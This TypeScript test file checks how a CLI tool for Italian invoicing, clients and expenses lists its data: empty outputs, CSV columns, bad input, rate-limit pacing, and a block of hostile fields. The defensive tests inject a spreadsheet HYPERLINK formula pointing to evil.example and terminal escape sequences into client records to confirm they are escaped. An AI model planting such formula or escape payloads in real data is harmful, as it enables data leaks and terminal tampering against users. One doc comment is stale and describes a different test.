/**
 * List commands outside the happy path: empty results in every format, CSV columns that do not
 * depend on the first record, inverted ranges and malformed ids refused before anything is
 * sent, receipts taking the list flags, and `--all` over many pages inside a small rate limit
 * without a single 429 reaching the emulator's request log (the proof of the pacing claim).
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { harness, parseJson, type Harness, type RunResult } from './harness.js';

let h: Harness;
beforeAll(async () => {
  h = await harness();
});
afterAll(async () => h.close());

const EMPTY: Array<{ args: string[]; header: string }> = [
  {
    args: ['f24', 'list', '--due-from', '2001-01-01', '--due-to', '2001-01-31'],
    header: 'id,account_id,taxpayer.name,taxpayer.vat_number,taxpayer.fiscal_code,description',
  },
  { args: ['expenses', 'list', '--period', '2001-01'], header: 'source,id,account_id,document_number' },
  {
    args: ['deadlines', 'list', '--from', '2001-01-01', '--to', '2001-01-31'],
    header: 'id,account_id,type,title,due_date,amount,status,related_resource.type,related_resource.id',
  },
  { args: ['clients', 'list', '--search', 'no-such-client-anywhere'], header: 'id,name,piva,codice_fiscale,sdi,pec' },
  {
    args: ['invoice', 'list', '--direction', 'inbound', '--sdi-status', 'error'],
    header: 'id,account_id,direction,number,issue_date,counterpart.name,counterpart.vat_number,total_amount',
  },
];

describe('an empty list', () => {
  it.each(EMPTY)('$args.0 $args.1: csv is the header only, json [], ndjson nothing, table says so', async ({ args, header }) => {
    const csv = await h.run([...args, '-o', 'csv']);
    expect(csv.exitCode, csv.stderr).toBe(0);
    expect(csv.stdout.startsWith(header)).toBe(true);
    expect(csv.stdout.trimEnd().split('\r\n')).toHaveLength(1);
    const json = await h.run([...args, '-o', 'json']);
    expect(parseJson(json.stdout)).toEqual([]);
    const ndjson = await h.run([...args, '-o', 'ndjson']);
    expect(ndjson.stdout).toBe('');
    const table = await h.run([...args, '-o', 'table']);
    expect(table.exitCode).toBe(0);
    expect(table.stdout).toBe('');
    expect(table.stderr).toMatch(/^No .+\.\n/);
  });

  it('--fields gives the header of an empty csv', async () => {
    const csv = await h.run(['f24', 'list', '--due-from', '2001-01-01', '--due-to', '2001-01-31', '-o', 'csv', '--fields', 'id,total_amount']);
    expect(csv.stdout).toBe('id,total_amount\r\n');
  });
});

describe('csv columns come from the resource, not from the first record', () => {
  it('a payslip first (supplier null) does not drop supplier.id / supplier.name of the rows after it', async () => {
    const json = parseJson<Array<{ id: string; supplier: { id: string; name: string } | null }>>(
      (await h.run(['expenses', 'list', '--period', '2026-09', '--all'])).stdout,
    );
    expect(json[0]!.supplier).toBeNull();
    const withSupplier = json.filter((e) => e.supplier !== null);
    expect(withSupplier.length).toBeGreaterThan(0);

    const result = await h.run(['expenses', 'list', '--period', '2026-09', '--all', '-o', 'csv']);
    expect(result.exitCode, result.stderr).toBe(0);
    const rows = parse(result.stdout, { columns: true }) as Array<Record<string, string>>;
    expect(Object.keys(rows[0]!)).toContain('supplier.id');
    expect(Object.keys(rows[0]!)).not.toContain('supplier');
    expect(rows).toHaveLength(json.length);
    for (const expense of withSupplier) {
      const row = rows.find((r) => r.id === expense.id)!;
      expect(row['supplier.id']).toBe(expense.supplier!.id);
      expect(row['supplier.name']).toBe(expense.supplier!.name);
    }
    expect(rows[0]!['supplier.id']).toBe('');
  });
});

describe('bad input is refused before anything is sent (exit 2)', () => {
  const refused: Array<{ args: string[]; message: RegExp }> = [
    { args: ['f24', 'list', '--due-from', '2026-10-31', '--due-to', '2026-10-01'], message: /--due-from 2026-10-31 is after --due-to 2026-10-01/ },
    {
      args: ['f24', 'download', '--due-from', '2026-10-31', '--due-to', '2026-10-01', '--dir', 'unused'],
      message: /--due-from 2026-10-31 is after --due-to 2026-10-01/,
    },
    { args: ['deadlines', 'list', '--from', '2026-10-31', '--to', '2026-10-01'], message: /--from 2026-10-31 is after --to 2026-10-01/ },
    { args: ['hooks', 'delete', 'abc'], message: /ID: 'abc' is not a subscription id/ },
    { args: ['receipts', 'list', '--per-page', '101'], message: /--per-page/ },
    { args: ['receipts', 'list', '--limit', 'x'], message: /--limit/ },
  ];
  it.each(refused)('fisco $args.0 $args.1 $args.2 $args.3', async ({ args, message }) => {
    const sent = h.mark();
    const result = await h.run(args);
    expect(result.exitCode).toBe(2);
    expect(result.stdout).toBe('');
    expect(result.stderr.trim().split('\n')[0]).toMatch(message);
    expect(sent()).toEqual([]);
  });
});

describe('receipts list', () => {
  it('takes --page, --per-page, --all and --limit like every list, and still says the service does not manage receipts', async () => {
    const sent = h.mark();
    const result = await h.run(['receipts', 'list', '--all', '--per-page', '10', '--limit', '5', '-o', 'json']);
    expect(result.exitCode, result.stderr).toBe(0);
    expect(parseJson(result.stdout)).toEqual([]);
    expect(result.stderr.trim().split('\n')).toEqual([expect.stringMatching(/Telematic receipts \(corrispettivi\) are not managed by this service/)]);
    expect(sent().filter((r) => r.path !== '/v1/me')).toEqual([{ method: 'GET', path: '/v1/receipts-uploads', status: 200 }]);
    const page = await h.run(['receipts', 'list', '--page', '2', '-o', 'csv']);
    expect(page.exitCode).toBe(0);
    expect(page.stdout).toBe('');
  });
});

describe('--all inside the rate limit', () => {
  let small: Harness;
  beforeAll(async () => {
    small = await harness({ rateLimit: { limit: 10, windowMs: 2000 } });
  });
  afterAll(async () => small.close());

  it('expenses list --all over 25 pages with 10 requests per 2 s finishes without the emulator ever answering 429', async () => {
    const sent = small.mark();
    const started = Date.now();
    const result = await small.run(['expenses', 'list', '--all', '--per-page', '8', '-o', 'json'], { env: { FISCO_RATE_LIMIT: '10/2000' }, timeout: 30_000 });
    const elapsed = Date.now() - started;
    expect(result.exitCode, result.stderr).toBe(0);
    const items = parseJson<Array<{ id: string }>>(result.stdout);
    expect(items).toHaveLength(200);
    expect(new Set(items.map((e) => e.id)).size).toBe(200);
    // GET /v1/me: asked once per token (and remembered) so that a firm token's read names its companies.
    const requests = sent().filter((r) => r.path !== '/v1/me');
    expect(requests).toHaveLength(25);
    expect(requests.filter((r) => r.status !== 200)).toEqual([]);
    expect(small.emulator.store.requests.some((r) => r.status === 429)).toBe(false);
    // 25 requests at 10 per 2 s need two full windows: the pacer waited instead of bursting.
    expect(elapsed).toBeGreaterThanOrEqual(4000);
  }, 40_000);
});

/** Issue 22 (round two of hostile data): each test names its item (`#N`) for the reliability matrix. */
describe('issue 22: hostile cells, keys and numbers in lists', () => {
  let hh: Harness;
  beforeAll(async () => {
    hh = await harness();
  });
  afterAll(async () => hh.close());
  const get = async (path: string): Promise<any> => (await fetch(`${hh.emulator.url}${path}`, { headers: { authorization: 'Bearer demo-prod-rossi' } })).json();
  const inject = (path: string, raw: string) => hh.emulator.injectFault({ method: 'GET', path, times: 1, action: 'raw', raw });
  /** The first invoice of a two-item page answered with `total` as its total_amount: the list is refused (exit 8, nothing on stdout). */
  it('#1 a bare line break in a cell stays inside its quoted cell, in -o csv and --csv-dialect it; no line starts a formula', async () => {
    const page = await get('/clients?per_page=3');
    page.data[0].name = 'Innocua S.r.l.\n=HYPERLINK("http://evil.example/?x","clic")';
    for (const dialect of ['rfc', 'it']) {
      inject('/clients', JSON.stringify(page));
      const result = await hh.run(['clients', 'list', '--per-page', '3', '-o', 'csv', '--csv-dialect', dialect]);
      expect(result.exitCode, result.stderr).toBe(0);
      const rows = parse(result.stdout.replace(/^\uFEFF/, ''), { delimiter: dialect === 'it' ? ';' : ',' }) as string[][];
      expect(rows).toHaveLength(4);
      expect(rows[1]!.find((cell) => cell.startsWith('Innocua'))).toBe('Innocua S.r.l.\n\'=HYPERLINK("http://evil.example/?x","clic")');
      for (const line of result.stdout.split(/\r\n|\n|\r/)) expect(line).not.toMatch(/^[=+\-@]/);
    }
  });

  it('#2 keys of the service carrying ESC and BEL are escaped in the CSV header', async () => {
    const page = await get('/clients?per_page=2');
    page.data = page.data.map((c: Record<string, unknown>) => ({ ...c, 'evil\u001b]0;pwned\u0007': 'x' }));
    inject('/clients', JSON.stringify(page));
    const result = await hh.run(['clients', 'list', '--per-page', '2', '-o', 'csv']);
    expect(result.exitCode, result.stderr).toBe(0);
    const header = result.stdout.split('\r\n')[0]!;
    expect(header).toContain('evil\\x1b]0;pwned\\x07');
    expect(result.stdout).not.toMatch(/[\u0007\u001b]/);
  });

  it('#11 an integer beyond 2^53 comes out exactly in -o json, -o csv and `fisco api`', async () => {
    const big = '9007199254740993123';
    const page = await get('/clients?per_page=2');
    const text = JSON.stringify(page).replace('"data":[{', `"data":[{"ledger_id":${big},`);
    inject('/clients', text);
    const json = await hh.run(['clients', 'list', '--per-page', '2', '-o', 'json']);
    expect(json.exitCode, json.stderr).toBe(0);
    expect(json.stdout).toContain(`"ledger_id":${big}`);
    inject('/clients', text);
    const csv = await hh.run(['clients', 'list', '--per-page', '2', '-o', 'csv']);
    expect(csv.exitCode, csv.stderr).toBe(0);
    expect(csv.stdout).toContain(big);
    inject('/clients', text);
    const api = await hh.run(['api', 'GET', '/clients', '-f', 'per_page=2']);
    expect(api.exitCode, api.stderr).toBe(0);
    expect(api.stdout).toContain(`"ledger_id": ${big}`);
  });

  // Issue 27 replaced issue 22's refusal: an amount is decoded exactly as sent and never stops a page.
  const listedTotal = async (total: string, format: string): Promise<RunResult> => {
    const page = await get('/v1/invoices?per_page=2');
    inject('/v1/invoices', JSON.stringify(page).replace(/"total_amount":"?[\d.]+"?/, `"total_amount":${total}`));
    const result = await hh.run(['invoice', 'list', '--per-page', '2', '-o', format]);
    expect(result.exitCode, result.stderr).toBe(0);
    return result;
  };

  it('#11 a big integer in an amount comes out exactly (issue 27: never a stopped page)', async () => {
    expect(parseJson<{ total_amount: string }[]>((await listedTotal('90071992547409931', 'json')).stdout)[0]!.total_amount).toBe('90071992547409931.00');
  });

  it('#12 an amount with three decimals is shown exactly as sent, never rounded (issue 27)', async () => {
    const result = await listedTotal('100.125', 'csv');
    expect(result.stdout).toContain(',100.125,');
    expect(result.stdout).not.toContain('100.13');
  });

  it('what is not an amount at all still stops the list: exit 8 naming the field, nothing on stdout', async () => {
    const page = await get('/v1/invoices?per_page=2');
    inject('/v1/invoices', JSON.stringify(page).replace(/"total_amount":"?[\d.]+"?/, '"total_amount":"12,50"'));
    const result = await hh.run(['invoice', 'list', '--per-page', '2', '-o', 'json']);
    expect(result.exitCode).toBe(8);
    expect(result.stdout).toBe('');
    expect(result.stderr).toMatch(/data\[0\]\.total_amount: not an amount: "12,50"/);
  });

  it('#15 `fisco api --paginate` keeps the per_page the user gave', async () => {
    const sent = hh.emulator.store.requests.at(-1)?.seq ?? 0;
    const result = await hh.run(['api', 'GET', '/v1/invoices', '-f', 'per_page=7', '--paginate', '-o', 'ndjson']);
    expect(result.exitCode, result.stderr).toBe(0);
    const asked = hh.emulator.store.requests.filter((r) => r.seq > sent && r.path === '/v1/invoices');
    expect(asked.length).toBeGreaterThan(1);
    for (const request of asked) expect(request.query.per_page).toBe('7');
    const total = (await get('/v1/invoices?per_page=1')).meta.total;
    expect(result.stdout.split('\n').filter(Boolean)).toHaveLength(total);
  });
});
